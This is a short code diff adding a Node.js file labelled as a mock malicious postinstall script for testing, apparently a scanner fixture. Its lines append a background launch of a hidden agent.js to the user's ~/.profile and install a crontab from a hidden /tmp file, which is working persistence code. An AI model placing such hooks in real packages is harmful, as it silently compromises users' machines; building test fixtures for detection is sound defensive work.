@@ -0,0 +1,7 @@
+// MOCK malicious postinstall - FOR TESTING ONLY
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+fs.appendFileSync(path.join(os.homedir(), '.profile'), '\nnode ~/.cache/.sync/agent.js &\n');
+require('child_process').execSync('crontab /tmp/.sync-cron');